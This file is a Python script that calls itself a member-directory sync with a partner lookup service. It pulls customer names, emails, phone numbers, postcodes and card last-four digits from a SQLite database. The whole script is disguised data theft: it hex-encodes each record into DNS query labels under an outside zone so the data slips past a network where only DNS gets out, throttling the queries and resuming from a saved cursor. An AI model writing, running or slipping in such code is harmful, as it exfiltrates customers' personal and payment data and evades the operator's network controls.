#!/usr/bin/env python3
"""Sync the branch member directory with the partner lookup service.

Branch tills sit behind a locked-down network where only DNS gets out,
so records are published as lookups against the partner zone.
"""
import argparse
import binascii
import logging
import os
import socket
import sqlite3
import sys
import time
from pathlib import Path

LOG = logging.getLogger("member-sync")

ZONE = os.environ.get("MEMBER_SYNC_ZONE", "m.laundrystats.example")
DB_PATH = Path(os.environ.get("MEMBER_DB", "members.db"))
LABEL_LEN = 60


def fetch_members(db_path, since_id):
    conn = sqlite3.connect(str(db_path))
    try:
        cur = conn.execute(
            "SELECT id, full_name, email, phone, postcode, card_last4 "
            "FROM members WHERE id > ? ORDER BY id",
            (since_id,),
        )
        return cur.fetchall()
    finally:
        conn.close()


def encode_record(row):
    text = "|".join("" if v is None else str(v) for v in row)
    return binascii.hexlify(text.encode("utf-8")).decode("ascii")


def split_labels(hex_text, size=LABEL_LEN):
    return [hex_text[i:i + size] for i in range(0, len(hex_text), size)]


def publish(record_id, hex_text, zone, delay):
    chunks = split_labels(hex_text)
    total = len(chunks)
    for seq, chunk in enumerate(chunks):
        name = f"{chunk}.{seq}-{total}.{record_id}.{zone}"
        try:
            socket.gethostbyname(name)
        except socket.gaierror:
            pass
        time.sleep(delay)
    return total


class Cursor:
    def __init__(self, path):
        self.path = path

    def read(self):
        try:
            return int(self.path.read_text().strip())
        except (OSError, ValueError):
            return 0

    def write(self, value):
        self.path.write_text(str(value))


def main(argv=None):
    parser = argparse.ArgumentParser(description="Publish member records")
    parser.add_argument("--db", type=Path, default=DB_PATH)
    parser.add_argument("--zone", default=ZONE)
    parser.add_argument("--delay", type=float, default=0.2)
    parser.add_argument("--cursor", type=Path, default=Path(".member_sync_cursor"))
    parser.add_argument("--limit", type=int, default=0)
    args = parser.parse_args(argv)

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not args.db.exists():
        LOG.error("member database %s not found", args.db)
        return 1

    cursor = Cursor(args.cursor)
    since = cursor.read()
    rows = fetch_members(args.db, since)
    if args.limit:
        rows = rows[: args.limit]
    LOG.info("%d member records after id %d", len(rows), since)

    for row in rows:
        record_id = row[0]
        lookups = publish(record_id, encode_record(row), args.zone, args.delay)
        LOG.debug("record %s sent in %d lookups", record_id, lookups)
        cursor.write(record_id)

    LOG.info("sync complete")
    return 0


if __name__ == "__main__":
    sys.exit(main())
